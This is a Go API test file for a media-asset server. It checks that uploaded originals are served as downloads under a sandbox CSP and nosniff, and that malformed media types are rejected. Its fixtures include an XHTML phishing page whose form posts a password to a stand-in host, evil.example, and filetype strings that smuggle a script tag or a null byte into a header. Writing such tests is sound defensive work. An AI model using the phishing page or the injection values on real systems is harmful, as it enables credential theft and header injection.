package api_test

import (
	"image/color"
	"strings"
	"testing"

	"github.com/ferryhq/ferry/server/testkit"
)

// Tests of issue 17's hardening holes: each failed on the main of
// 2026-12-07 and passes since.

// countChildren is how many assets are in folder id.
func countChildren(t *testing.T, c *testkit.Client, id string) int {
	t.Helper()
	return len(children(t, c, id))
}

// Hole 9: an original whose type can render as a page (XSL, XML, a list
// of types) is a download on every route, every original carries a
// sandbox CSP and nosniff, and a type that is not one type/subtype is
// refused at upload with nothing stored.
func TestOriginalsServedSafely(t *testing.T) {
	s := start(t)
	admin := s.Admin(t)
	_, root := linkProject(t, admin, "Types")
	page := []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/"><input name="password"/></form></body></html>`)
	xsl := admin.Upload(root, "invoice.xsl", page, "filetype", "text/xsl")
	evil := admin.Upload(root, "invoice.xml", page, "filetype", "application/x-evil+xml")
	plain := admin.Upload(root, "notes.txt", page, "filetype", "text/plain")
	img := admin.Upload(root, "ok.jpg", jpegBytes(t, 32, 32, color.RGBA{1, 2, 3, 255}), "filetype", "image/jpeg")
	pdf := admin.Upload(root, "doc.pdf", []byte("%PDF-1.4 not really"), "filetype", "application/pdf")
	video := admin.Upload(root, "clip.mp4", []byte("not really a video"), "filetype", "video/mp4")

	var sl shareLink
	res := admin.Do("POST", "/api/v2/share_links", map[string]any{"kind": "public", "asset_ids": []string{xsl, evil, plain, img, pdf, video}, "allow_original": true}, &sl)
	wantStatus(t, "share link", res, 201, "")
	var dl shareLink
	res = admin.Do("POST", "/api/v2/share_links", map[string]any{"kind": "download", "asset_ids": []string{evil}}, &dl)
	wantStatus(t, "direct link", res, 201, "")
	anon := s.Client(t)

	check := func(what string, c *testkit.Client, path, wantType, wantDisposition string) {
		t.Helper()
		res, _ := get(t, c, path)
		if res.StatusCode != 200 {
			t.Fatalf("%s: status %d", what, res.StatusCode)
		}
		if got := res.Header.Get("Content-Type"); got != wantType {
			t.Errorf("%s: Content-Type %q, want %q", what, got, wantType)
		}
		if got := res.Header.Get("Content-Disposition"); !strings.HasPrefix(got, wantDisposition+";") {
			t.Errorf("%s: Content-Disposition %q, want %s", what, got, wantDisposition)
		}
		csp := res.Header.Get("Content-Security-Policy")
		if !strings.HasPrefix(csp, "sandbox;") || !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q, want a sandbox with default-src 'none'", what, csp)
		}
		if res.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: no nosniff", what)
		}
	}
	for _, tc := range []struct {
		id, typ, disposition string
	}{
		{xsl, "text/xsl", "attachment"},
		{evil, "application/x-evil+xml", "attachment"},
		{plain, "text/plain", "attachment"},
		{img, "image/jpeg", "inline"},
		{pdf, "application/pdf", "inline"},
		{video, "video/mp4", "inline"},
	} {
		check("member original "+tc.typ, admin, "/api/v2/assets/"+tc.id+"/original", tc.typ, tc.disposition)
		check("share link original "+tc.typ, anon, "/api/v2/public/links/"+sl.Key+"/assets/"+tc.id+"/original", tc.typ, tc.disposition)
	}
	check("direct download", s.Client(t), "/d/"+dl.Key, "application/x-evil+xml", "attachment")
	waitReady(t, admin, img)
	check("rendition", admin, "/api/v2/assets/"+img+"/proxies/thumb", "image/jpeg", "inline")

	// Types that are not exactly one type/subtype are refused at upload,
	// through tus and the Frame.io-style create, and nothing is stored.
	before := countChildren(t, admin, root)
	for _, ft := range []string{"text/plain,text/html", "text/html\x00", "text/html; charset=\"x\"<script>", "text", "text/html/x", "evil/html", "image/png; charset=ü"} {
		res := admin.TusCreate(map[string]string{"filename": "x.html", "parent_id": root, "filetype": ft}, 10, nil)
		if res.StatusCode != 400 || !strings.Contains(body(res), "media type") {
			t.Errorf("tus create with filetype %q: %d %s, want 400 naming the media type", ft, res.StatusCode, body(res))
		}
		res = admin.Do("POST", "/api/v2/assets/"+root+"/children", map[string]any{"name": "x.html", "type": "file", "filetype": ft, "filesize": 10}, nil)
		if res.StatusCode != 400 {
			t.Errorf("create with filetype %q: %d %s, want 400", ft, res.StatusCode, body(res))
		}
	}
	if after := countChildren(t, admin, root); after != before {
		t.Fatalf("refused uploads left assets: %d before, %d after", before, after)
	}
	// A charset is kept, canonical.
	id := admin.Upload(root, "readme.txt", []byte("hello"), "filetype", "Text/Plain; Charset=UTF-8")
	res, _ = get(t, admin, "/api/v2/assets/"+id+"/original")
	if res.Header.Get("Content-Type") != "text/plain" || !strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("text with a charset: %q %q", res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
	}
}
